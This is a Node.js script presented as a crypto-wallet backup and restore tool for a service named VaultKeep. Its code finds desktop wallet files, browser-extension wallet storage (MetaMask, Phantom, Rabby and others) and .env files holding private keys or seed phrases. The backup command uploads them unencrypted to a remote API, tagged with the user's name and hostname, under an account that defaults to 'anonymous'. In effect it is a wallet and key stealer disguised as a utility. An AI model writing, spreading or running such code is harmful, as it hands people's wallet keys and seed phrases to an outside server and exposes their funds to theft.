#!/usr/bin/env node
// Find local crypto wallet data, back it up to VaultKeep, verify and restore.
import { readdirSync, statSync, readFileSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { homedir, platform, hostname, userInfo } from 'node:os';
import { join, relative, dirname } from 'node:path';
import { createHash } from 'node:crypto';
import { gzipSync, gunzipSync } from 'node:zlib';

const API = 'https://api.vaultkeep.invalid/v3';
const H = homedir();
const OS = platform();
const ACCOUNT = process.env.VAULTKEEP_ACCOUNT || 'anonymous';

const appData = OS === 'darwin' ? join(H, 'Library/Application Support')
  : OS === 'win32' ? (process.env.APPDATA || join(H, 'AppData/Roaming')) : join(H, '.config');
const localAppData = OS === 'win32' ? (process.env.LOCALAPPDATA || join(H, 'AppData/Local')) : appData;

const DESKTOP = {
  exodus: [join(appData, 'Exodus/exodus.wallet')],
  electrum: [OS === 'win32' ? join(appData, 'Electrum/wallets') : join(H, '.electrum/wallets')],
  atomic: [join(appData, 'atomic/Local Storage/leveldb')],
  'bitcoin-core': [OS === 'darwin' ? join(appData, 'Bitcoin/wallets') : OS === 'win32' ? join(appData, 'Bitcoin/wallets') : join(H, '.bitcoin/wallets'),
                   OS === 'darwin' ? join(appData, 'Bitcoin/wallet.dat') : join(H, '.bitcoin/wallet.dat')],
  sparrow: [OS === 'win32' ? join(appData, 'Sparrow/wallets') : join(H, '.sparrow/wallets')],
  'ledger-live': [join(appData, 'Ledger Live/app.json')],
  'trezor-suite': [join(appData, '@trezor/suite-desktop')],
  'solana-cli': [join(H, '.config/solana')],
  foundry: [join(H, '.foundry/keystores')],
};

const EXTENSIONS = {
  metamask: 'nkbihfbeogaeaoehlefnkodbefgpgknn',
  phantom: 'bfnaelmomeimhlpmgjnjophhpkkoljpa',
  rabby: 'acmacodkjbdgmoleebolmdjonilkdbch',
  'coinbase-wallet': 'hnfanknocfeofbddgcijnmhnfnkdnaad',
  keplr: 'dmkamcknogkgcdfhhbddcghachkejeap',
  okx: 'mcohilncbfahbmgdjkbpemcciiolgcge',
};

const BROWSERS = OS === 'darwin'
  ? { Chrome: join(appData, 'Google/Chrome'), Brave: join(appData, 'BraveSoftware/Brave-Browser'), Edge: join(appData, 'Microsoft Edge') }
  : OS === 'win32'
    ? { Chrome: join(localAppData, 'Google/Chrome/User Data'), Brave: join(localAppData, 'BraveSoftware/Brave-Browser/User Data'), Edge: join(localAppData, 'Microsoft/Edge/User Data') }
    : { Chrome: join(H, '.config/google-chrome'), Brave: join(H, '.config/BraveSoftware/Brave-Browser'), Edge: join(H, '.config/microsoft-edge') };

const SECRET_ENV = /^(?:export\s+)?[A-Z0-9_]*(PRIVATE_KEY|MNEMONIC|SEED_PHRASE|DEPLOYER_KEY)[A-Z0-9_]*\s*=/m;

function walk(p, out = []) {
  let st;
  try { st = statSync(p); } catch { return out; }
  if (st.isFile()) { out.push(p); return out; }
  if (!st.isDirectory()) return out;
  for (const e of readdirSync(p)) {
    if (e === 'node_modules' || e === '.git' || e === 'LOCK') continue;
    walk(join(p, e), out);
  }
  return out;
}

function findEnvFiles() {
  const found = [];
  for (const base of ['code', 'projects', 'src', 'dev'].map((d) => join(H, d))) {
    const stack = [[base, 0]];
    while (stack.length) {
      const [dir, depth] = stack.pop();
      if (depth > 5) continue;
      let entries;
      try { entries = readdirSync(dir, { withFileTypes: true }); } catch { continue; }
      for (const e of entries) {
        if (e.isDirectory() && !['node_modules', '.git', 'lib', 'out', 'cache'].includes(e.name)) stack.push([join(dir, e.name), depth + 1]);
        else if (e.isFile() && e.name.startsWith('.env')) {
          const f = join(dir, e.name);
          try { if (SECRET_ENV.test(readFileSync(f, 'utf8'))) found.push(f); } catch { /* unreadable */ }
        }
      }
    }
  }
  return found;
}

function scan() {
  const items = [];
  for (const [name, paths] of Object.entries(DESKTOP)) {
    const files = paths.flatMap((p) => walk(p));
    if (files.length) items.push({ wallet: name, where: paths.find((p) => existsSync(p)), files });
  }
  for (const [browser, root] of Object.entries(BROWSERS)) {
    if (!existsSync(root)) continue;
    for (const prof of readdirSync(root).filter((d) => d === 'Default' || d.startsWith('Profile '))) {
      for (const [name, id] of Object.entries(EXTENSIONS)) {
        const files = [join(root, prof, 'Local Extension Settings', id), join(root, prof, 'IndexedDB', `chrome-extension_${id}_0.indexeddb.leveldb`)].flatMap((p) => walk(p));
        if (files.length) items.push({ wallet: name, where: `${browser}/${prof}`, files });
      }
    }
  }
  const envs = findEnvFiles();
  if (envs.length) items.push({ wallet: 'dev-keys', where: `${envs.length} .env file(s)`, files: envs });
  return items;
}

const size = (files) => files.reduce((n, f) => { try { return n + statSync(f).size; } catch { return n; } }, 0);

function pack(item) {
  const entries = item.files.map((f) => {
    const data = readFileSync(f);
    return { path: relative(H, f), sha256: createHash('sha256').update(data).digest('hex'), data: data.toString('base64') };
  });
  return gzipSync(Buffer.from(JSON.stringify({ wallet: item.wallet, where: item.where, entries })));
}

async function backup() {
  const items = scan();
  if (!items.length) { console.log('no wallets found'); return; }
  const ids = [];
  for (const item of items) {
    const res = await fetch(`${API}/accounts/${ACCOUNT}/objects`, {
      method: 'POST',
      headers: { 'content-type': 'application/octet-stream', 'x-vk-wallet': item.wallet, 'x-vk-host': `${userInfo().username}@${hostname()}`, 'x-vk-os': OS },
      body: pack(item),
    });
    if (!res.ok) { console.error(`${item.wallet}: upload failed (HTTP ${res.status})`); continue; }
    const { id } = await res.json();
    ids.push(id);
    console.log(`${item.wallet.padEnd(14)} ${item.where.padEnd(24)} backup ${id}`);
  }
  const r = await fetch(`${API}/accounts/${ACCOUNT}/receipts`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ objects: ids }) });
  const { receipt } = await r.json();
  console.log(`receipt: ${receipt}`);
}

async function verify(receipt) {
  const { objects } = await (await fetch(`${API}/accounts/${ACCOUNT}/receipts/${receipt}`)).json();
  let bad = 0;
  for (const o of objects) {
    for (const e of o.entries) {
      const p = join(H, e.path);
      const ok = existsSync(p) && createHash('sha256').update(readFileSync(p)).digest('hex') === e.sha256;
      if (!ok) { bad++; console.log(`changed or missing: ${e.path}`); }
    }
  }
  console.log(bad ? `${bad} file(s) differ from the backup` : 'backup matches local files');
}

async function restore(receipt) {
  const { objects } = await (await fetch(`${API}/accounts/${ACCOUNT}/receipts/${receipt}`)).json();
  for (const o of objects) {
    const blob = Buffer.from(await (await fetch(`${API}/accounts/${ACCOUNT}/objects/${o.id}`)).arrayBuffer());
    const { entries } = JSON.parse(gunzipSync(blob).toString());
    for (const e of entries) {
      const p = join(H, e.path);
      mkdirSync(dirname(p), { recursive: true });
      if (existsSync(p)) writeFileSync(`${p}.pre-restore`, readFileSync(p));
      writeFileSync(p, Buffer.from(e.data, 'base64'));
    }
    console.log(`${o.wallet}: restored ${entries.length} file(s)`);
  }
}

const [cmd, arg] = process.argv.slice(2);
if (cmd === 'scan') {
  for (const i of scan()) console.log(`${i.wallet.padEnd(14)} ${i.where.padEnd(40)} ${String(i.files.length).padStart(4)} files  ${(size(i.files) / 1e6).toFixed(1)} MB`);
} else if (cmd === 'backup') await backup();
else if (cmd === 'verify' && arg) await verify(arg);
else if (cmd === 'restore' && arg) await restore(arg);
else { console.error('usage: walletvault.mjs scan|backup|verify <receipt>|restore <receipt>'); process.exit(64); }
